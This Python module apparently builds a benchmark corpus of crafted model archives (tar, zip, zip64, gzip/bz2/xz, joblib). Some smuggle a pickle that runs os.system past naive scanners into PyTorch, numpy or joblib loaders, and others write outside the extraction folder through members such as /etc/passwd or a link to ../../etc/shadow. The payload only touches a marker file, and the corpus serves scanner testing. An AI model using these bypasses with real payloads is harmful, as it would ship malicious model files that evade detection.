"""Container bypasses of issue 11: archives whose loader reads what a naive scanner skips.

Each builder makes the file an attacker would ship (payloads only create the marker file) and
registers it in the corpus; `tests/scanners/test_container_bypasses.py` scans the same files
and asks the real loader, in a subprocess, that it would indeed run the payload.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path

from benchmarks.corpus import technique
from benchmarks.corpus.pickleasm import shell_call

AMBIGUOUS = "CONTAINER-AMBIGUOUS"
DANGEROUS = "PICKLE-DANGEROUS-GLOBAL"
TRAVERSAL = "ARCHIVE-PATH-TRAVERSAL"


def payload(m: Path, *, protocol: int = 2) -> bytes:
    """os.system("touch marker")."""
    return shell_call("os", "system", m, protocol=protocol)


# --- tar, as tarfile reads it ------------------------------------------------------------------


def tar_header(
    name: bytes,
    size: int,
    *,
    kind: bytes = b"0",
    linkname: bytes = b"",
    magic: bytes = b"ustar\x0000",
    good_checksum: bool = True,
) -> bytes:
    """One 512-byte ustar header with a correct (or deliberately wrong) checksum."""
    block = bytearray(512)
    block[0 : len(name[:100])] = name[:100]
    block[100:108] = b"0000644\0"
    block[108:116] = b"0000000\0"
    block[116:124] = b"0000000\0"
    block[124:136] = b"%011o\0" % size
    block[136:148] = b"00000000000\0"
    block[148:156] = b" " * 8
    block[156:157] = kind
    block[157 : 157 + len(linkname[:100])] = linkname[:100]
    block[257 : 257 + len(magic)] = magic
    chk = sum(block)
    if not good_checksum:
        chk += 1
    block[148:156] = b"%06o\0 " % chk
    return bytes(block)


def tar_member(name: bytes, data: bytes, **kw: object) -> bytes:
    """Header, data, padding."""
    return tar_header(name, len(data), **kw) + data + bytes(-len(data) % 512)  # type: ignore[arg-type]


def pax_records(records: dict[str, str]) -> bytes:
    """`<len> key=value\\n` records."""
    out = b""
    for key, value in records.items():
        body = f" {key}={value}\n".encode()
        length = len(body) + 1
        while len(str(length)) + len(body) != length:
            length += 1
        out += str(length).encode() + body
    return out


def _end() -> bytes:
    return bytes(1024)


def legacy_members(pickle_member: bytes) -> bytes:
    """`storages` (no storages, no views) and `tensors` (none): what torch reads first."""
    storages = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)
    return tar_member(b"storages", storages) + tar_member(b"tensors", pickle.dumps(0, protocol=2))


@technique("tar-pax-size-override", family="torch", filename="model.tar")
def tar_pax_size(m: Path) -> bytes:
    """A pax `x` header's size= record says 512; the ustar size says 0; tarfile reads 512."""
    data = payload(m)
    data += bytes(512 - len(data))
    pax = pax_records({"size": "512"})
    return (
        legacy_members(b"")
        + tar_member(b"././@PaxHeader", pax, kind=b"x")
        + tar_header(b"pickle", 0)
        + data
        + _end()
    )


@technique("tar-pax-global-size", family="torch", filename="model.tar")
def tar_pax_global_size(m: Path) -> bytes:
    """A pax global header's size= applies to the next member's reads, not to its skip."""
    data = payload(m)
    data += bytes(512 - len(data))
    pax = pax_records({"size": "512"})
    return (
        legacy_members(b"")
        + tar_member(b"././@GlobalHead", pax, kind=b"g")
        + tar_header(b"pickle", 0)
        + data
        + _end()
    )


@technique("tar-gnu-longname-member", family="torch", filename="model.tar")
def tar_gnu_longname(m: Path) -> bytes:
    """A GNU long-name header renames the next member to `pickle`."""
    return (
        legacy_members(b"")
        + tar_member(b"././@LongLink", b"pickle\0", kind=b"L")
        + tar_member(b"innocent.txt", payload(m))
        + _end()
    )


def bad_checksum_block(pickled: bytes) -> bytes:
    """A first tar block that is a pickle (with ustar magic when there is room); its checksum
    field is not a number, so tarfile rejects it."""
    block = bytearray(pickled + bytes(-len(pickled) % 512 or 512 * (not pickled)))
    if len(pickled) < 257:
        block[257:265] = b"ustar\x0000"
    return bytes(block)


@technique("tar-bad-checksum-pickle-at-zero", family="torch", filename="model.tar")
def tar_bad_checksum(m: Path) -> bytes:
    """A pickle at offset 0 where the first tar header sits; tarfile rejects the header (bad
    checksum), so torch.load unpickles the file from offset 0; the rest is a valid legacy tar."""
    return (
        bad_checksum_block(payload(m, protocol=0))
        + legacy_members(b"")
        + tar_member(b"pickle", pickle.dumps({"w": 1}, protocol=2))
        + _end()
    )


@technique("tar-dir-with-size", family="torch", filename="model.tar")
def tar_dir_size(m: Path) -> bytes:
    """A directory entry with a size: tarfile skips no data, so the next header is inside."""
    inner = tar_member(b"pickle", payload(m))
    return legacy_members(b"") + tar_header(b"folder/", len(inner), kind=b"5") + inner + _end()


@technique("tar-member-traversal", family="archive", filename="model.tar", expect=TRAVERSAL)
def tar_traversal(m: Path) -> bytes:
    """A member named ../../x: extracting the archive writes outside the folder."""
    return tar_member(b"../../evil.txt", b"hello\n") + _end()


@technique("tar-member-absolute", family="archive", filename="model.tar", expect=TRAVERSAL)
def tar_absolute(m: Path) -> bytes:
    """A member named /etc/passwd."""
    return tar_member(b"/etc/passwd", b"root::0:0::/:/bin/sh\n") + _end()


@technique("tar-member-backslash", family="archive", filename="model.tar", expect=TRAVERSAL)
def tar_backslash(m: Path) -> bytes:
    """A member named ..\\x (Windows separators)."""
    return tar_member(b"..\\evil.txt", b"hello\n") + _end()


@technique("tar-hardlink-out", family="archive", filename="model.tar", expect=TRAVERSAL)
def tar_hardlink_out(m: Path) -> bytes:
    """A hard link to ../../etc/shadow."""
    return tar_header(b"shadow", 0, kind=b"1", linkname=b"../../etc/shadow") + _end()


# --- zip -----------------------------------------------------------------------------------------


def plain_zip(files: dict[str, bytes], *, compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip written by zipfile."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@technique("zip-member-traversal", family="archive", filename="bundle.zip", expect=TRAVERSAL)
def zip_traversal(m: Path) -> bytes:
    """A zip member named ../../x."""
    return plain_zip({"../../evil.txt": b"hello\n"})


@technique("zip-member-absolute", family="archive", filename="bundle.zip", expect=TRAVERSAL)
def zip_absolute(m: Path) -> bytes:
    """A zip member named /etc/passwd."""
    return plain_zip({"/etc/passwd": b"root::0:0::/:/bin/sh\n"})


@technique("zip-member-backslash", family="archive", filename="bundle.zip", expect=TRAVERSAL)
def zip_backslash(m: Path) -> bytes:
    """A zip member named ..\\x."""
    return plain_zip({"..\\evil.txt": b"hello\n"})


@technique("zip-symlink-out", family="archive", filename="bundle.zip", expect=TRAVERSAL)
def zip_symlink(m: Path) -> bytes:
    """A zip member that is a symlink (unix mode in the external attributes) to /etc/passwd."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "../../../etc/passwd")
    return buffer.getvalue()


def count_below_directory(files: dict[str, bytes], *, count: int) -> bytes:
    """A zip whose end record counts `count` entries while its directory holds them all."""
    data = plain_zip(files)
    at = data.rfind(b"PK\x05\x06")
    return data[: at + 8] + struct.pack("<HH", count, count) + data[at + 12 :]


@technique(
    "zip-count-below-directory",
    family="archive",
    filename="arrays.npz",
    expect=(DANGEROUS, "ZIP-INCONSISTENT"),
)
def zip_count_below(m: Path) -> bytes:
    """The end record counts 1 entry; zipfile (numpy's npz, Keras) reads the directory by its
    size and lists the second, hostile one."""
    return count_below_directory({"a.npy": b"not read", "b.pkl": payload(m)}, count=1)


def zip64_locator_elsewhere(benign: bytes, hostile: bytes) -> bytes:
    """Two archives in one file: zipfile reads the one before the zip64 locator, miniz the one
    the locator's offset names."""
    first = plain_zip({"archive/data.pkl": hostile, "archive/version": b"3\n"})
    # The hostile archive's directory, then a zip64 end record for it, kept at the front.
    cd_at = first.rindex(b"PK\x01\x02", 0, first.rindex(b"PK\x05\x06"))
    cd_start = first.index(b"PK\x01\x02")
    cd = first[cd_start : first.rindex(b"PK\x05\x06")]
    count = cd.count(b"PK\x01\x02")
    del cd_at
    second = plain_zip({"archive/data.pkl": benign, "archive/version": b"3\n"})
    body = first[:cd_start]
    shift = len(body) + len(cd)
    # Rebase the benign archive after the hostile one (its local headers move by `shift`).
    s_cd_start = second.index(b"PK\x01\x02")
    s_locals = second[:s_cd_start]
    s_cd = bytearray(second[s_cd_start : second.rindex(b"PK\x05\x06")])
    pos = 0
    while pos < len(s_cd):
        nlen, xlen, clen = struct.unpack_from("<HHH", s_cd, pos + 28)
        off = struct.unpack_from("<I", s_cd, pos + 42)[0]
        struct.pack_into("<I", s_cd, pos + 42, off + shift)
        pos += 46 + nlen + xlen + clen
    hostile_eocd64 = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(cd), cd_start
    )
    out = body + cd
    eocd64_hostile_at = len(out)
    out += hostile_eocd64
    shift2 = len(out) - shift
    # fix the benign offsets for the extra zip64 record placed before its local headers
    pos = 0
    while pos < len(s_cd):
        nlen, xlen, clen = struct.unpack_from("<HHH", s_cd, pos + 28)
        off = struct.unpack_from("<I", s_cd, pos + 42)[0]
        struct.pack_into("<I", s_cd, pos + 42, off + shift2)
        pos += 46 + nlen + xlen + clen
    locals_at = len(out)
    out += s_locals
    s_cd_at = len(out)
    out += bytes(s_cd)
    s_count = bytes(s_cd).count(b"PK\x01\x02")
    eocd64_benign = struct.pack(
        "<4sQHHIIQQQQ",
        b"PK\x06\x06",
        44,
        45,
        45,
        0,
        0,
        s_count,
        s_count,
        len(s_cd),
        s_cd_at,
    )
    out += eocd64_benign
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, eocd64_hostile_at, 1)
    out += locator
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    del locals_at
    return out


@technique(
    "zip64-locator-elsewhere", family="torch", filename="model.pt", expect=(AMBIGUOUS, DANGEROUS)
)
def zip64_locator(m: Path) -> bytes:
    """A zip64 locator pointing at a second central directory (PyTorch's reader follows it)."""
    return zip64_locator_elsewhere(pickle.dumps({"w": 1}, protocol=2), payload(m))


# --- compressed streams and joblib -------------------------------------------------------------


def split_streams(data: bytes, kind: str, *, at: int = 12) -> bytes:
    """`data` compressed as two concatenated streams, split at byte `at`."""
    import bz2
    import gzip
    import lzma

    compress = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}[kind]
    return compress(data[:at]) + compress(data[at:])


for _kind in ("gzip", "bz2", "xz"):

    def _build_split(m: Path, kind: str = _kind) -> bytes:
        return split_streams(payload(m), kind)

    _build_split.__doc__ = f"A pickle split over two concatenated {_kind} streams."
    technique(f"{_kind}-multistream-payload", family="compressed", filename="model.pkl.gz")(
        _build_split
    )


def zlib_with_empty_blocks(data: bytes, *, blocks: int = 20_000) -> bytes:
    """A zlib stream that opens with `blocks` empty stored blocks (no output for 100 KB)."""
    import zlib

    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = raw.compress(data) + raw.flush()
    return (
        b"\x78\x01"
        + b"\x00\x00\x00\xff\xff" * blocks
        + body
        + struct.pack(">I", zlib.adler32(data))
    )


@technique("zlib-empty-stored-blocks", family="joblib", filename="model.joblib")
def zlib_empty_blocks(m: Path) -> bytes:
    """joblib's zlib stream opening with 20,000 empty stored blocks, then the payload."""
    return zlib_with_empty_blocks(payload(m))


def joblib_zfile(data: bytes) -> bytes:
    """joblib's legacy z-file: b'ZF', the length in hex padded to 19 characters, zlib data."""
    import zlib

    return b"ZF" + f"{len(data):#x}".encode().ljust(19) + zlib.compress(data)


@technique("joblib-legacy-zfile", family="joblib", filename="model.pkl")
def joblib_zfile_payload(m: Path) -> bytes:
    """A joblib < 0.9.3 z-file holding the payload (joblib.load still reads them)."""
    return joblib_zfile(payload(m))


def joblib_alignment_zero(m: Path) -> bytes:
    """A NumpyArrayWrapper with numpy_array_alignment_bytes=0: joblib still reads a padding
    byte, a scanner that skips it when falsy parses the array's last bytes as opcodes."""
    import tempfile

    import joblib
    import numpy as np

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.joblib"
        joblib.dump({"w": np.zeros(8, dtype=np.uint8)}, path)
        dump = path.read_bytes()
    key = b"numpy_array_alignment_bytes"
    at = dump.index(key) + len(key)
    value_at = dump.index(b"K\x10", at)
    dump = dump[:value_at] + b"K\x00" + dump[value_at + 2 :]
    build = dump.index(b"b", value_at)  # BUILD, right after the state dict
    pad = dump[build + 1]
    array_at = build + 2 + pad
    rest = dump[array_at + 8 :]
    evil = shell_call("os", "system", m, protocol=0)[:-1]  # no STOP: pushes the call's result
    array = bytes(6) + b"C" + bytes([len(evil)])  # a scanner one byte late sees SHORT_BINBYTES
    return dump[: build + 1] + b"\x01\x00" + array + evil + b"0" + rest


technique("joblib-alignment-zero", family="joblib", filename="model.joblib")(joblib_alignment_zero)
